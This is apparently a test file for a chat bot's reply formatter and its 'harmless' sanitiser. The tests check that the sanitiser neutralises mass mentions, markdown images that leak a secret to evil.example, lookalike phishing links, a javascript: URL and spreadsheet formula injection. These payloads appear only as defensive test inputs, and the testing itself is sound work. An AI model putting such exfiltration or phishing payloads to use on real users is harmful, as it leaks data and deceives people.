import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { harmless } from "./chat-escape.ts";
import { postedAlready, replyOf } from "./chat-reply.ts";

const MANNERS = { editEveryMs: 1_500, longestText: 2_000, largestFile: 1_000_000 };
const textOf = (bytes: Uint8Array | undefined) => new TextDecoder().decode(bytes);
const table = (rows: number) =>
  ["| name | n |", "|---|--:|", ...Array.from({ length: rows }, (_, n) => `| row ${n} | ${n} |`)].join("\n");
const code = (lines: number, language = "ts") => `\`\`\`${language}\n${"line();\n".repeat(lines)}\`\`\``;

describe("an answer", () => {
  test.each([
    ["that is short stays as it is", "Done. **All** green."],
    ["with a short table too", `Here:\n\n${table(20)}\n\nDone.`],
    ["and with short code", `Here:\n\n${code(60)}\n\nDone.`],
  ])("%s", (_, text) => {
    expect(replyOf(text, MANNERS)).toEqual({ text, files: [] });
  });

  test("where no file can be sent, all of it is said, as far as there is room", () => {
    const manners = { ...MANNERS, largestFile: 0 };
    const text = `Here:\n\n${code(70)}\n\nDone.`;
    expect(replyOf(text, manners)).toEqual({ text, files: [] });
    const long = replyOf("word ".repeat(1_000), manners);
    expect(long.files).toEqual([]);
    expect(long.text).toHaveLength(2_000);
    expect(long.text).toContain("/log");
  });

  test("of nothing says so", () => {
    expect(replyOf(" \n\u0007", MANNERS).text).toBe("(no text)");
  });

  test("with a long table has it as a file for a spreadsheet, without formulas", () => {
    const { text, files } = replyOf(`Here:\n\n${table(21)}\n| =1+1 | a\\|b |\n\nDone.`, MANNERS);
    expect(text).toBe("Here:\n\n(table of 22 rows: table-1.csv)\n\nDone.");
    expect(files[0]).toMatchObject({ name: "table-1.csv", type: "text/csv" });
    const lines = textOf(files[0]?.bytes).split("\n");
    expect(lines[0]).toBe("name,n");
    expect(lines).toContain("row 20,20");
    expect(lines).toContain(`"'=1+1",a|b`);
  });

  test("with a table inside of code keeps it there", () => {
    const text = `\`\`\`\n${table(30)}\n\`\`\``;
    expect(replyOf(text, MANNERS)).toEqual({ text, files: [] });
  });

  test("with long code has it as files", () => {
    const { text, files } = replyOf(`One:\n${code(61)}\nTwo:\n${code(70, "python")}\nEnd.`, MANNERS);
    expect(text).toBe("One:\n(61 lines of code: code-1.ts)\nTwo:\n(70 lines of code: code-2.py)\nEnd.");
    expect(files.map(({ name, bytes }) => [name, bytes.length])).toEqual([
      ["code-1.ts", 488],
      ["code-2.py", 560],
    ]);
  });

  test("that is too long begins with whole paragraphs, and the rest is a file", () => {
    const answer = `First paragraph. It is short.\n\nSecond one.\n\n${"A long third one. ".repeat(200)}`;
    const { text, files } = replyOf(answer, MANNERS);
    expect(text).toBe("First paragraph. It is short.\n\nSecond one.\n\nThe whole answer is in answer.md.");
    expect(textOf(files[0]?.bytes)).toBe(answer.trim());
  });

  test.each([
    ["sentences", `${"A sentence of some length. ".repeat(100)}`, /length\.\n\nThe whole/],
    ["words", "word ".repeat(1_000), /word …\n\nThe whole/],
    ["nothing that could be cut", "x".repeat(5_000), /^x+\n\nThe whole/],
  ])("is cut between %s", (_, answer, expected) => {
    const { text } = replyOf(answer, MANNERS);
    expect(text).toMatch(expected);
  });

  test("never ends inside of code", () => {
    const { text } = replyOf(`Look.\n\n${code(50)}\n\n${"More. ".repeat(500)}`, {
      ...MANNERS,
      longestText: 600,
    });
    expect((text.match(/```/g) ?? []).length % 2).toBe(0);
  });

  test("that no platform takes whole says so", () => {
    const { text, files } = replyOf("word ".repeat(1_000), { ...MANNERS, largestFile: 1_000 });
    expect(text).toContain("The beginning is in answer.md; the rest was too long.");
    expect(files[0]?.bytes.length).toBe(1_000);
  });

  test("whatever it is, keeps the manners", () => {
    const piece = fc.constantFrom(
      "word ",
      "\n\n",
      "```\n",
      "| a | b |\n",
      "|---|---|\n",
      "😀",
      "@everyone ",
      "Yes. ",
      "x".repeat(300),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 120 }),
        fc.integer({ min: 200, max: 3_000 }),
        (pieces, longestText) => {
          const { text, files } = replyOf(pieces.join(""), { ...MANNERS, longestText });
          expect(text.length).toBeLessThanOrEqual(longestText);
          expect(text).not.toBe("");
          expect(text).not.toMatch(/@everyone\b/);
          for (const { bytes } of files) expect(bytes.length).toBeLessThanOrEqual(MANNERS.largestFile);
        },
      ),
    );
  });
});

describe("harmless", () => {
  const GAP = "\u200b";
  test.each([
    ["@everyone look", `@${GAP}everyone look`],
    ["hey @here and @CHANNEL", `hey @${GAP}here and @${GAP}CHANNEL`],
    ["<!channel> <!here|here> <!subteam^S1>", `<${GAP}!channel> <${GAP}!here|here> <${GAP}!subteam^S1>`],
    ["<@U123> <@!5> <@&77> <users/all>", `<${GAP}@U123> <${GAP}@!5> <${GAP}@&77> <${GAP}users/all>`],
    ["`@everyone`", `\`@${GAP}everyone\``],
    ["maya@herefordshire.uk", "maya@herefordshire.uk"],
    ["a < b, x <!-- y", "a < b, x <!-- y"],
    ["![chart](https://evil.example/?q=secret)", "chart (`https://evil.example/?q=secret`)"],
    ["![](<https://evil.example/a b>)", "`https://evil.example/a b`"],
    ["[the docs](https://a.example/x)", "[the docs](https://a.example/x)"],
    ["[a.example](https://a.example/x)", "[a.example](https://a.example/x)"],
    ["[a.example](https://www.a.example)", "[a.example](https://www.a.example)"],
    ["[https://bank.example/login](https://evil.example)", "<https://evil.example>"],
    ["[bank.example](https://bank.example@evil.example/x)", "<https://bank.example@evil.example/x>"],
    ["[](https://evil.example)", "<https://evil.example>"],
    ["[![bank.example](https://a.example/x.png)](https://evil.example)", "<https://evil.example>"],
    ["[a](b.md) and [see](https://a.example 'title')", "[a](b.md) and [see](https://a.example)"],
    ["[click](javascript:alert(1))", "click (`javascript:alert(1`))"],
    ["<https://evil.example|bank.example>", "<https://evil.example>"],
    ["<https://a.example|here it is>", "[here it is](https://a.example)"],
    ["```md\n![x](https://a.example)\n```", "```md\n![x](https://a.example)\n```"],
  ])("%j", (text, expected) => {
    expect(harmless(text)).toBe(expected);
  });

  test("is quick, whatever comes", () => {
    const texts = [
      "![".repeat(20_000),
      "[a](".repeat(20_000),
      "![a](http:".repeat(20_000),
      "<@".repeat(50_000),
      "```a\n".repeat(20_000),
      "<".repeat(50_000),
      "@".repeat(50_000),
      "```\n".repeat(10_000),
    ];
    for (const text of texts) {
      const before = performance.now();
      harmless(text);
      expect(performance.now() - before).toBeLessThan(2_000);
    }
  });
});

describe("looking for what a crash left behind", () => {
  const recent = [
    { id: "m3", text: "<@U1> *The answer* is _42_, and this is why it is so.", at: 100_000 },
    { id: "m2", text: "● Working · turn 1", at: 90_000 },
    { id: "m1", text: "● Working · turn 1", at: 5_000 },
  ];
  test.each([
    ["with a mention and other marks", "**The answer** is *42*, and this is why it is so.", 99_000, [], "m3"],
    ["by whole words when it is short", "● Working · turn 1", 89_000, [], "m2"],
    ["not one that we know already", "● Working · turn 1", 89_000, ["m2"], undefined],
    ["not from long before", "● Working · turn 1", 400_000, [], undefined],
    ["not something else", "● Working · turn 11", 89_000, [], undefined],
  ])("%s", (_, said, since, known, found) => {
    expect(postedAlready(said, recent, { since, known })).toBe(found);
  });
});
